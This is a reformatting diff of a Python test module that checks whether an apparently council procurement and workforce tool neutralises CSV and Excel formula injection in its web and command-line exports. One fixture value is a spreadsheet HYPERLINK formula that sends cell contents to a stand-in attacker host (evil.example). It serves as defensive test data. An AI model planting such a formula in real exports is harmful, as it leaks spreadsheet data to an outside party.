@@ -37,7 +37,9 @@ from anchorage.workforce.apprenticeships import (
 from anchorage.workforce.bid_io import load_pledges, load_starts
 from anchorage.workforce.levy_io import load_pay_bills
 
-NUMBER = re.compile(r"-?\d+(\.\d+)?(e[+-]?\d+)?")  # a real number, written by the writer as a number
+NUMBER = re.compile(
+    r"-?\d+(\.\d+)?(e[+-]?\d+)?"
+)  # a real number, written by the writer as a number
 SRC = Path(__file__).resolve().parents[1] / "src" / "anchorage"
 SUPPLIER = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 EMPLOYER = "=1+2 Cafe Ltd"
@@ -63,35 +65,96 @@ def hostile(tmp_path_factory):
     web = build_web(root)
     ws, d = web.ws, root / "hostile"
     d.mkdir()
-    ingest_spend(ws, write(d / "council-extra.csv", f'Payee,{HEADER},Paid Date,Expense Type\n'
-                                                    f'"{SUPPLIER.replace(chr(34), chr(34) * 2)}",1200,02/05/2023,{CATEGORY}\n'
-                                                    'Fine Ltd,lots,03/05/2023,Works\n'), "Council",
-                 date_order="dmy", accept_warnings=True)  # it adds to the council's May 2023 payments
+    ingest_spend(
+        ws,
+        write(
+            d / "council-extra.csv",
+            f"Payee,{HEADER},Paid Date,Expense Type\n"
+            f'"{SUPPLIER.replace(chr(34), chr(34) * 2)}",1200,02/05/2023,{CATEGORY}\n'
+            "Fine Ltd,lots,03/05/2023,Works\n",
+        ),
+        "Council",
+        date_order="dmy",
+        accept_warnings=True,
+    )  # it adds to the council's May 2023 payments
     resolve(ws)
-    load_programmes(ws, write(d / "p.csv", "id,standard,level,duration_months,off_the_job_hours,start_date\n"
-                                           "BA3,Business administrator,3,12,400,01/09/2025\n"))
-    load_placements(ws, write(d / "pl.csv", "id,anchor,department,skill,capacity\nC1,Council,Finance,finance,1\n"
-                                            "T1,Acute Trust,Estates,estates,2\n"))
-    load_apprentices(ws, write(d / "a.csv", "id,programme,employer,start_date,preferences\n"
-                                            f"{APPRENTICE},BA3,Council,01/09/2025,C1;T1\n"))
+    load_programmes(
+        ws,
+        write(
+            d / "p.csv",
+            "id,standard,level,duration_months,off_the_job_hours,start_date\n"
+            "BA3,Business administrator,3,12,400,01/09/2025\n",
+        ),
+    )
+    load_placements(
+        ws,
+        write(
+            d / "pl.csv",
+            "id,anchor,department,skill,capacity\nC1,Council,Finance,finance,1\n"
+            "T1,Acute Trust,Estates,estates,2\n",
+        ),
+    )
+    load_apprentices(
+        ws,
+        write(
+            d / "a.csv",
+            "id,programme,employer,start_date,preferences\n"
+            f"{APPRENTICE},BA3,Council,01/09/2025,C1;T1\n",
+        ),
+    )
     solve_and_save(ws, months=12, block_months=6, time_limit=10)
-    bills = "anchor,month,pay_bill\n" + "".join(f"Council,{m:02}/2024,1000000\n" for m in range(1, 13))
+    bills = "anchor,month,pay_bill\n" + "".join(
+        f"Council,{m:02}/2024,1000000\n" for m in range(1, 13)
+    )
     load_pay_bills(ws, write(d / "bills.csv", bills))
-    load_pledges(ws, write(d / "pledges.csv",
-                           "employer,role,placements,hours_per_week,hourly_wage,duration_months,location,"
-                           f"additionality,pledged_on\n{EMPLOYER},\"{ROLE}\",20,25,8.72,6,{LOCATION},Y,01/12/2020\n"))
-    load_starts(ws, write(d / "starts.csv", "employer,role,participant,start_date,outcome\n"
-                                            f"{EMPLOYER},\"{ROLE}\",P1,01/03/2021,completed\n"))
-    import_contracts(ws, write(d / "council-contracts.csv", "Title,Supplier,Value,Start Date,End Date,CPV\n"
-                               f"{CONTRACT},-Local Caterers Ltd,900000,01/04/{NEXT - 2},31/03/{NEXT + 1},55520000\n"),
-                     "council")
-    import_contracts(ws, write(d / "trust-contracts.csv", "Title,Supplier,Value,Start Date,End Date,Category\n"
-                               f"Patient meals,Far Away Foods plc,3000000,01/01/{NEXT - 2},31/12/{NEXT},Patient catering\n"),
-                     "acute-trust")
+    load_pledges(
+        ws,
+        write(
+            d / "pledges.csv",
+            "employer,role,placements,hours_per_week,hourly_wage,duration_months,location,"
+            f'additionality,pledged_on\n{EMPLOYER},"{ROLE}",20,25,8.72,6,{LOCATION},Y,01/12/2020\n',
+        ),
+    )
+    load_starts(
+        ws,
+        write(
+            d / "starts.csv",
+            "employer,role,participant,start_date,outcome\n"
+            f'{EMPLOYER},"{ROLE}",P1,01/03/2021,completed\n',
+        ),
+    )
+    import_contracts(
+        ws,
+        write(
+            d / "council-contracts.csv",
+            "Title,Supplier,Value,Start Date,End Date,CPV\n"
+            f"{CONTRACT},-Local Caterers Ltd,900000,01/04/{NEXT - 2},31/03/{NEXT + 1},55520000\n",
+        ),
+        "council",
+    )
+    import_contracts(
+        ws,
+        write(
+            d / "trust-contracts.csv",
+            "Title,Supplier,Value,Start Date,End Date,Category\n"
+            f"Patient meals,Far Away Foods plc,3000000,01/01/{NEXT - 2},31/12/{NEXT},Patient catering\n",
+        ),
+        "acute-trust",
+    )
     with ws.session() as s:
-        s.add(SupplierRegistration(name=REGISTERED, categories=["Catering"], postcode="SE6 4RU", size="micro",
-                                   org_type="company", description="=2+2 hot lunches", contact_email="a@b.example",
-                                   status="confirmed", confirmed_at=dt.datetime.now(dt.UTC)))
+        s.add(
+            SupplierRegistration(
+                name=REGISTERED,
+                categories=["Catering"],
+                postcode="SE6 4RU",
+                size="micro",
+                org_type="company",
+                description="=2+2 hot lunches",
+                contact_email="a@b.example",
+                status="confirmed",
+                confirmed_at=dt.datetime.now(dt.UTC),
+            )
+        )
         s.commit()
     refresh_figures(ws)  # data loaded behind the server: the figures the pages and reports read
     return web
@@ -107,7 +170,8 @@ def texts_of_xlsx(content: bytes) -> set[str]:
                 assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                 if isinstance(cell.value, str):
                     assert not cell.value.startswith(FORMULA_STARTS) or cell.quotePrefix, (
-                        f"{sheet.title}!{cell.coordinate} = {cell.value!r} would run as a formula")
+                        f"{sheet.title}!{cell.coordinate} = {cell.value!r} would run as a formula"
+                    )
                     found.add(cell.value)
     return found
 
@@ -128,17 +192,26 @@ def contains(cells: set[str], value: str, *, quoted: bool) -> bool:
 
 
 def test_cells_are_neutralised_and_numbers_stay_numbers():
-    df = pd.DataFrame({HEADER: [SUPPLIER, "plain", None, "-3"], "amount £": [-1.5, 2.0, None, 3.0],
-                       "paid": [dt.date(2024, 1, 2)] * 4})
+    df = pd.DataFrame(
+        {
+            HEADER: [SUPPLIER, "plain", None, "-3"],
+            "amount £": [-1.5, 2.0, None, 3.0],
+            "paid": [dt.date(2024, 1, 2)] * 4,
+        }
+    )
     rows = list(csv.reader(io.StringIO(csv_bytes(df).decode("utf-8-sig"))))
     assert rows[0] == ["'" + HEADER, "amount £", "paid"]
     assert rows[1] == ["'" + SUPPLIER, "-1.5", "2024-01-02"] and rows[4][0] == "'-3"
     book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"S": df})))
     sheet = book["S"]
     assert sheet["A1"].value == HEADER and sheet["A1"].quotePrefix and sheet["A1"].font.b
-    assert sheet["A2"].value == SUPPLIER and sheet["A2"].data_type == "s" and sheet["A2"].quotePrefix
+    assert (
+        sheet["A2"].value == SUPPLIER and sheet["A2"].data_type == "s" and sheet["A2"].quotePrefix
+    )
     assert sheet["A3"].value == "plain" and not sheet["A3"].quotePrefix
-    assert sheet["B2"].value == -1.5 and sheet["B2"].data_type == "n"  # a real number is still a number
+    assert (
+        sheet["B2"].value == -1.5 and sheet["B2"].data_type == "n"
+    )  # a real number is still a number
     assert sheet["C2"].value == dt.datetime(2024, 1, 2)
     texts_of_xlsx(xlsx_bytes({"S": df}))
 
@@ -163,14 +236,35 @@ def test_no_other_csv_or_xlsx_writer_in_the_source():
         if path.name in allowed or "demo" in path.relative_to(SRC).parts:
             continue
         for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
-            name = node.attr if isinstance(node, ast.Attribute) else node.id if isinstance(node, ast.Name) else ""
-            if name in {"to_csv", "to_excel", "ExcelWriter", "writer", "DictWriter", "xlsxwriter", "write_excel"} \
-                    and not (name == "writer" and not (isinstance(node, ast.Attribute)
-                                                       and getattr(node.value, "id", "") == "csv")):
+            name = (
+                node.attr
+                if isinstance(node, ast.Attribute)
+                else node.id
+                if isinstance(node, ast.Name)
+                else ""
+            )
+            if name in {
+                "to_csv",
+                "to_excel",
+                "ExcelWriter",
+                "writer",
+                "DictWriter",
+                "xlsxwriter",
+                "write_excel",
+            } and not (
+                name == "writer"
+                and not (isinstance(node, ast.Attribute) and getattr(node.value, "id", "") == "csv")
+            ):
                 bad.append(f"{path.relative_to(SRC)}:{node.lineno} {name}")
             if isinstance(node, ast.Import | ast.ImportFrom):
-                mods = [a.name for a in node.names] + ([node.module] if isinstance(node, ast.ImportFrom) else [])
-                bad += [f"{path.relative_to(SRC)}:{node.lineno} imports xlsxwriter" for m in mods if m == "xlsxwriter"]
+                mods = [a.name for a in node.names] + (
+                    [node.module] if isinstance(node, ast.ImportFrom) else []
+                )
+                bad += [
+                    f"{path.relative_to(SRC)}:{node.lineno} imports xlsxwriter"
+                    for m in mods
+                    if m == "xlsxwriter"
+                ]
     assert not bad, bad
 
 
@@ -184,7 +278,9 @@ def test_web_exports_carry_hostile_values_as_text(hostile):
 
     with hostile.ws.session() as s:
         viewer = viewer_for(s, s.query(User).filter(User.email == "analyst@council.org").one())
-    upload_id = next(u.id for u in queries.uploads(hostile.ws, viewer, "council") if "extra" in u.filename)
+    upload_id = next(
+        u.id for u in queries.uploads(hostile.ws, viewer, "council") if "extra" in u.filename
+    )
     q_csv = texts_of_csv(council.get(f"/uploads/{upload_id}/quarantine.csv").content)
     assert contains(q_csv, HEADER, quoted=True)
     q_xlsx = texts_of_xlsx(council.get(f"/uploads/{upload_id}/quarantine.xlsx").content)
@@ -199,9 +295,13 @@ def test_web_exports_carry_hostile_values_as_text(hostile):
     texts_of_xlsx(admin.get("/workforce/levy/ledger.xlsx").content)
     listing = council.get("/pipeline/opportunities").text
     opp = re.search(r'href="/pipeline/opportunities/([0-9a-f]{10,})\?', listing).group(1)
-    assert CONTRACT in texts_of_xlsx(council.get(f"/pipeline/opportunities/{opp}/brief.xlsx").content)
+    assert CONTRACT in texts_of_xlsx(
+        council.get(f"/pipeline/opportunities/{opp}/brief.xlsx").content
+    )
     assert REGISTERED in texts_of_xlsx(council.get("/directory/export.xlsx").content)
-    assert contains(texts_of_csv(council.get("/directory/export.csv").content), REGISTERED, quoted=True)
+    assert contains(
+        texts_of_csv(council.get("/directory/export.csv").content), REGISTERED, quoted=True
+    )
 
 
 def test_cli_exports_carry_hostile_values_as_text(hostile, tmp_path):
@@ -222,10 +322,14 @@ def test_cli_exports_carry_hostile_values_as_text(hostile, tmp_path):
     assert HEADER in texts_of_xlsx((tmp_path / "q.xlsx").read_bytes())
     run("report", "--out", str(tmp_path / "report"))
     assert CATEGORY in texts_of_xlsx((tmp_path / "report" / "anchorage-report.xlsx").read_bytes())
-    csvs = set().union(*(texts_of_csv(p.read_bytes()) for p in (tmp_path / "report" / "csv").glob("*.csv")))
+    csvs = set().union(
+        *(texts_of_csv(p.read_bytes()) for p in (tmp_path / "report" / "csv").glob("*.csv"))
+    )
     assert contains(csvs, CATEGORY, quoted=True)
     run("bid", "build", "--out", str(tmp_path / "bid"))
-    assert {EMPLOYER, ROLE, LOCATION} <= texts_of_xlsx((tmp_path / "bid" / "bid-pack.xlsx").read_bytes())
+    assert {EMPLOYER, ROLE, LOCATION} <= texts_of_xlsx(
+        (tmp_path / "bid" / "bid-pack.xlsx").read_bytes()
+    )
     run("apprenticeships", "calendar", "--out", str(tmp_path / "cal.xlsx"))
     assert APPRENTICE in texts_of_xlsx((tmp_path / "cal.xlsx").read_bytes())
     run("levy", "ledger", "--out", str(tmp_path / "ledger.csv"))
@@ -236,7 +340,9 @@ def test_cli_exports_carry_hostile_values_as_text(hostile, tmp_path):
     assert CONTRACT in texts_of_xlsx((tmp_path / "brief.xlsx").read_bytes())
     # Land and buildings: an asset whose name starts like a formula, in the assets report's CSVs.
     places = [Location("SE6 4RU", 537_700, 172_800), Location("SE13 6LH", 538_000, 175_400)]
-    reg = write_transparency_register(tmp_path / "reg.csv", 12, places, org_name="Council", seed=3, broken=False)
+    reg = write_transparency_register(
+        tmp_path / "reg.csv", 12, places, org_name="Council", seed=3, broken=False
+    )
     rows = list(csv.reader(io.StringIO(reg.path.read_text(encoding="utf-8"))))
     name_col = rows[0].index("Name")
     rows[1][name_col] = ASSET
@@ -244,7 +350,9 @@ def test_cli_exports_carry_hostile_values_as_text(hostile, tmp_path):
         csv.writer(fh).writerows(rows)
     run("assets", "import", str(reg.path), "--org", "Council")
     run("assets", "report", "--out", str(tmp_path / "assets"))
-    csvs = set().union(*(texts_of_csv(p.read_bytes()) for p in (tmp_path / "assets" / "csv").glob("assets-*.csv")))
+    csvs = set().union(
+        *(texts_of_csv(p.read_bytes()) for p in (tmp_path / "assets" / "csv").glob("assets-*.csv"))
+    )
     assert contains(csvs, ASSET, quoted=True)
     # The workforce report (the demo writes it beside the main report).
     wf = write_workforce_report(hostile.ws, tmp_path / "wf")["xlsx"]
